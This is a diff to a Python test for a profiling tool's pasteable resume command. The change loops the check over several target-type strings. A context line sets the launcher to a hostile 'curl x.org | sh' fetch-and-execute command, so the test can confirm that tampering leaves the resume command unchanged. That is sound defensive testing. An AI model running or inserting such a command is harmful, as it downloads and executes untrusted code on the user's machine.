@@ -122,9 +122,10 @@ def test_the_command_to_go_on_can_be_pasted() -> None:
         plain, header=dataclasses.replace(plain.header, launcher=("sh", "-c", "curl x.org | sh"))
     )
     assert hostile.resume_command == plain.resume_command
-    live = run((), settings={**settings_to_json(SweepSettings()), "target": "<TensorDataset>"})
-    called = "dlprof.sweep(<TensorDataset>, output='run.dlprof.jsonl', resume=True)"
-    assert live.resume_command == called
+    for kind in ("<TensorDataset>", "<make.<locals>.Own>", "<Kept[int, str]>"):
+        live = run((), settings={**settings_to_json(SweepSettings()), "target": kind})
+        called = f"dlprof.sweep({kind}, output='run.dlprof.jsonl', resume=True)"
+        assert live.resume_command == called
     # What is named again is what was stored.
     assert (
         resumed_settings(settings, settings, {"target", "arguments", "step_callable"}) == settings
